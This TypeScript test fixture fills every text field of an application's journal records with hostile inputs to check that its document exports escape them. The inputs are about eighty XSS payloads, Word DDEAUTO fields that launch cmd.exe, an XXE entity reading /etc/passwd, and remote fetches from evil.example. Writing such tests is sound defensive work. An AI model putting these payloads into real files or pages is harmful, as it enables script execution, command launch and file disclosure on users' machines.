/** Texts that would do harm in a file that somebody opens, if the file did not treat them as text. */
import { recordKinds } from '../../shared/domain/registry.ts';
import type { Fields, JournalRecord, RecordId, Revision } from '../../shared/domain/record.ts';
import { fieldsOf, innerShape } from '../../shared/domain/field.ts';
import type { z } from 'zod';
import { importedAt } from './import-context.ts';

/** Scripts, event handlers, addresses, styles and markup that breaks out of wherever it is put (C57). */
export const hostileHtml: readonly string[] = [
  '<script>fail(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '</script><script>fail(2)</script>',
  '<scr<script>ipt>fail(3)</scr</script>ipt>',
  '<script\u0000>fail(4)</script>',
  '<script/xss src="data:text/javascript,fail(5)"></script>',
  '<script type="module">import "https://evil.example/m.js"</script>',
  '<img src=x onerror=fail(6)>',
  '<img src="https://evil.example/pixel.png">',
  '<img srcset="https://evil.example/2x.png 2x">',
  '<img/src/onerror=fail(7)>',
  '<IMG """><SCRIPT>fail(8)</SCRIPT>">',
  '"><img src=x onerror=fail(9)>',
  "'><img src=x onerror=fail(10)>",
  '`><img src=x onerror=fail(11)>',
  '<svg onload=fail(12)>',
  '<svg><script>fail(13)</script></svg>',
  '<svg><a xlink:href="javascript:fail(14)"><text>x</text></a></svg>',
  '<svg><animate onbegin=fail(15) attributeName=x dur=1s>',
  '<svg><use href="https://evil.example/sprite.svg#x"></svg>',
  '<math><mtext></mtext><script>fail(16)</script></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:fail(17)">x</maction></math>',
  '<iframe src="javascript:fail(18)"></iframe>',
  '<iframe srcdoc="<script>fail(19)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.svg">',
  '<applet code="x"></applet>',
  '<a href="javascript:fail(20)">x</a>',
  '<a href="JaVaScRiPt:fail(21)">x</a>',
  '<a href="java\tscript:fail(22)">x</a>',
  '<a href="&#106;avascript:fail(23)">x</a>',
  '<a href="data:text/html,<script>fail(24)</script>">x</a>',
  '<a href="vbscript:fail(25)">x</a>',
  'javascript:fail(26)',
  'JAVASCRIPT:fail(27)//https://x.example',
  'data:text/html;base64,PHNjcmlwdD5mYWlsKDI4KTwvc2NyaXB0Pg==',
  'https://x.example/"onmouseover="fail(29)',
  "https://x.example/'onmouseover='fail(30)",
  'https://x.example/><script>fail(31)</script>',
  'mailto:a@b.example?body=<script>fail(32)</script>',
  'a@b.example"onclick="fail(33)',
  '//evil.example/x',
  '<form action="https://evil.example/"><button>x</button></form>',
  '<button formaction="javascript:fail(34)">x</button>',
  '<input autofocus onfocus=fail(35)>',
  '<select autofocus onfocus=fail(36)>',
  '<textarea autofocus onfocus=fail(37)>',
  '<details open ontoggle=fail(38)>',
  '<video src=x onerror=fail(39)></video>',
  '<video poster="https://evil.example/p.png"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay>',
  '<body onload=fail(40)>',
  '<frameset onload=fail(41)>',
  '<marquee onstart=fail(42)>x</marquee>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '</style><script>fail(43)</script>',
  '<div style="background:url(https://evil.example/b.png)">x</div>',
  '<div style="width:expression(fail(44))">x</div>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<base href="https://evil.example/">',
  '</title><script>fail(45)</script>',
  '</textarea><script>fail(46)</script>',
  '</main></body></html><script>fail(47)</script>',
  '<!--><script>fail(48)</script>-->',
  '<![CDATA[<script>fail(49)</script>]]>',
  '<?xml version="1.0"?><script>fail(50)</script>',
  '<template><script>fail(51)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=fail(52)>">',
  '&lt;script&gt;fail(53)&lt;/script&gt;',
  '&#60;script&#62;fail(54)&#60;/script&#62;',
  '\u2028<script>fail(55)</script>',
  '\ufeff<script>fail(56)</script>',
  '<x onclick=fail(57) tabindex=1 id=x>x</x>',
  '{{constructor.constructor("fail(58)")()}}',
  '${fail(59)}',
  '[x](javascript:fail(60))',
  '![x](https://evil.example/i.png)',
  '<https://evil.example/autolink>',
];

/** What Word would run or fetch, and what XML cannot hold (C58). */
export const hostileXml: readonly string[] = [
  '</w:t></w:r><w:r><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/>',
  '{DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}',
  'DDEAUTO excel "c:\\x.xls" "a1"',
  '{ INCLUDETEXT "https://evil.example/x" }',
  '{ HYPERLINK "javascript:alert(1)" }',
  'INCLUDEPICTURE "https://evil.example/x.png" \\d',
  ']]><x/><![CDATA[',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '&amp;&lt;&#x41;&undefined;',
  'a<b & c>d "e" \'f\'',
  '\u0000\u0001\u0008\u000b\u000c\u001f\u007f\u0085\u009f\ufffe\uffff',
  'half \ud83d character \ude00',
  'javascript:alert(1) file:///etc/passwd ftp://evil.example/x',
  'https://ok.example/?a=1&b=2 and ines@example.org',
];

/** Every text, address and list of a kind filled with one text; dates, numbers, choices and links stay as they are. */
export function fillFields(shape: z.ZodRawShape, text: string): Fields {
  const filled: Fields = {};
  for (const { name, schema, meta } of fieldsOf(shape)) {
    if (['text', 'paragraph', 'markdown', 'url', 'email', 'phone'].includes(meta.control)) filled[name] = text;
    if (['words', 'bullets'].includes(meta.control)) filled[name] = [text, text];
    if (meta.control === 'group') filled[name] = fillFields(innerShape(schema), text);
    if (meta.control === 'rows') filled[name] = [fillFields(innerShape(schema), text)];
  }
  return filled;
}

/** One record of each kind that documents draw on for every text, with the text in each of its fields. */
export function hostileJournal(texts: readonly string[]): JournalRecord[] {
  const kinds = recordKinds.filter((kind) => kind.place === 'achievements' || kind.place === 'record');
  return texts.flatMap((text, index) =>
    kinds.map((kind, place) => ({
      id: `50000000-0000-4000-8000-${String(index * 100 + place).padStart(12, '0')}` as RecordId,
      kind: kind.name,
      fields: kind.schema.parse({
        ...fillFields(kind.shape, text),
        ...(kind.name === 'achievement' ? { wording: '', driver: 'leadership' } : {}),
      }),
      revision: '0'.repeat(32) as Revision,
      createdAt: importedAt,
      updatedAt: importedAt,
    })),
  );
}
